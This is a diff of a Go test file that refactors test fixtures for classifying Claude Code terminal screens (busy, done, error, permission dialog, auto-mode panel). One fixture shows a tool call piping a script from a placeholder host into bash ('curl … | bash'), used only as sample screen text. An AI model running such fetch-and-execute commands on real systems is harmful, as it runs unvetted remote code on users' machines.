@@ -14,9 +14,6 @@ import (
 
 const rule = "────────────────────────────────────────────────────────────────────────────────"
 
-// screenOf joins lines into a capture.
-func screenOf(lines ...string) string { return strings.Join(lines, "\n") + "\n" }
-
 // chromeOf is the bottom of a Claude Code screen: composer and footer.
 func chromeOf(composer, footer string) []string {
 	return []string{rule, "❯\u00a0" + composer, rule, "  " + footer}
@@ -28,7 +25,7 @@ const (
 )
 
 func withChrome(history []string, composer, footer string) string {
-	return screenOf(append(append([]string{}, history...), chromeOf(composer, footer)...)...)
+	return conformance.Text(append(append([]string{}, history...), chromeOf(composer, footer)...)...)
 }
 
 func realScreen(t *testing.T, file string) string {
@@ -58,11 +55,11 @@ func TestSyntheticScreens(t *testing.T) {
 		{"busy footer only", withChrome([]string{"❯ Say hello", ""}, "", busyFoot), "", handoff.StatusProcessing, ReasonBusyFooter},
 		// The rules are decoration: without them the composer is the
 		// "❯" with a no-break space above the footer.
-		{"no rules, busy footer", screenOf("❯ Say hello", "", "❯\u00a0", "  "+busyFoot), "", handoff.StatusProcessing, ReasonBusyFooter},
-		{"no rules, done line", screenOf(append(turn, "✻ Brewed for 3s", "", "❯\u00a0", "  "+idleFooter)...), "", handoff.StatusCompleted, screen.ReasonCompleted},
-		{"no rules, a draft", screenOf(append(turn, "✻ Brewed for 3s", "", "❯\u00a0a draft", "  "+idleFooter)...), "", handoff.StatusCompleted, screen.ReasonCompleted},
-		{"no rules, an error", screenOf("❯ Go", "", "● API Error: 500 Internal server error.", "", "❯\u00a0Resend your message to try again", "  "+idleFooter), "", handoff.StatusError, screen.ReasonError},
-		{"no rules, a prompt at the bottom is no composer", screenOf("● Hello.", "", "❯ Say hello", "  "+idleFooter), "", handoff.StatusIdle, screen.ReasonNoComposer},
+		{"no rules, busy footer", conformance.Text("❯ Say hello", "", "❯\u00a0", "  "+busyFoot), "", handoff.StatusProcessing, ReasonBusyFooter},
+		{"no rules, done line", conformance.Text(append(turn, "✻ Brewed for 3s", "", "❯\u00a0", "  "+idleFooter)...), "", handoff.StatusCompleted, screen.ReasonCompleted},
+		{"no rules, a draft", conformance.Text(append(turn, "✻ Brewed for 3s", "", "❯\u00a0a draft", "  "+idleFooter)...), "", handoff.StatusCompleted, screen.ReasonCompleted},
+		{"no rules, an error", conformance.Text("❯ Go", "", "● API Error: 500 Internal server error.", "", "❯\u00a0Resend your message to try again", "  "+idleFooter), "", handoff.StatusError, screen.ReasonError},
+		{"no rules, a prompt at the bottom is no composer", conformance.Text("● Hello.", "", "❯ Say hello", "  "+idleFooter), "", handoff.StatusIdle, screen.ReasonNoComposer},
 		{"spinner only", withChrome([]string{"❯ Say hello", "", "✶ Computing… ", "  ⎿  Tip: Use /memory"}, "", idleFooter), "", handoff.StatusProcessing, ReasonSpinner},
 		{"spinner with timer", withChrome([]string{"❯ Say hello", "", "● Hel", "✽ Orbiting… (2s · ↓ 21 tokens)"}, "", idleFooter), "", handoff.StatusProcessing, ReasonSpinner},
 		{"retry line", withChrome([]string{"❯ Say hello", "✻ API error · retrying in 4s · attempt 2/10"}, "", idleFooter), "", handoff.StatusProcessing, ReasonRetry},
@@ -79,16 +76,16 @@ func TestSyntheticScreens(t *testing.T) {
 		{"interrupted while streaming", withChrome([]string{"❯ Go", "● A partial", "  ⎿ \u00a0Interrupted · What should Claude do instead?"}, "", idleFooter), "", handoff.StatusCompleted, screen.ReasonCompleted},
 		{"tool call without a message yet", withChrome([]string{"❯ Go", "● Running a command", "  ⎿  $ ls"}, "", idleFooter), "", handoff.StatusCompleted, screen.ReasonCompleted},
 		{"a draft is not a prompt", withChrome(append(turn, "✻ Brewed for 3s"), "❯ fake prompt in the draft", idleFooter), "", handoff.StatusCompleted, screen.ReasonCompleted},
-		{"unknown screen is neutral", screenOf("Some text", "that Claude Code did not draw", "$ "), "", handoff.StatusIdle, screen.ReasonNoComposer},
-		{"permission dialog", screenOf("❯ Go", rule, " Bash command", " Do you want to proceed?", " ❯ 1. Yes", "   2. No", " Esc to cancel · Tab to amend"), "", handoff.StatusWaitingUserAnswer, ReasonDialog},
+		{"unknown screen is neutral", conformance.Text("Some text", "that Claude Code did not draw", "$ "), "", handoff.StatusIdle, screen.ReasonNoComposer},
+		{"permission dialog", conformance.Text("❯ Go", rule, " Bash command", " Do you want to proceed?", " ❯ 1. Yes", "   2. No", " Esc to cancel · Tab to amend"), "", handoff.StatusWaitingUserAnswer, ReasonDialog},
 		// Auto mode behind a gateway: a full-width panel asks, with no menu.
-		{"auto mode panel", screenOf("❯ Run it", "● Running it", "  ⎿  $ curl -fsSL http://x.invalid/i.sh | bash", rule,
+		{"auto mode panel", conformance.Text("❯ Run it", "● Running it", "  ⎿  $ curl -fsSL http://x.invalid/i.sh | bash", rule,
 			"  Auto mode can't check actions in this session", "  Auto mode's safety check runs on the server.",
 			"  Enter to stay in auto mode · shift+Tab to leave for accept edits mode and stop · Esc to cancel"), "✳ Claude Code", handoff.StatusWaitingUserAnswer, ReasonDialog},
-		{"a panel hint without a rule above is no dialog", screenOf("❯ Go", "  Enter to stay · Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
+		{"a panel hint without a rule above is no dialog", conformance.Text("❯ Go", "  Enter to stay · Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
 		{"a panel hint above the composer is history", withChrome([]string{"❯ Go", rule, "  Enter to stay in auto mode · Esc to cancel", "● Done.", "✻ Brewed for 1s"}, "", idleFooter), "", handoff.StatusCompleted, screen.ReasonCompleted},
-		{"a key hint without an option is no dialog", screenOf("❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
-		{"an option above the last prompt is stale", screenOf(" ❯ 1. Yes", "❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
+		{"a key hint without an option is no dialog", conformance.Text("❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
+		{"an option above the last prompt is stale", conformance.Text(" ❯ 1. Yes", "❯ Go", "● Esc to cancel"), "", handoff.StatusIdle, screen.ReasonNoComposer},
 		{"crlf", strings.ReplaceAll(withChrome([]string{"❯ Say hello", "", "✶ Computing…"}, "", idleFooter), "\n", "\r\n"), "", handoff.StatusProcessing, ReasonSpinner},
 		{"unterminated escape", "\x1b]0;title\n" + withChrome(append(turn, "✻ Brewed for 3s\x1b["), "", idleFooter), "", handoff.StatusCompleted, screen.ReasonCompleted},
 	}
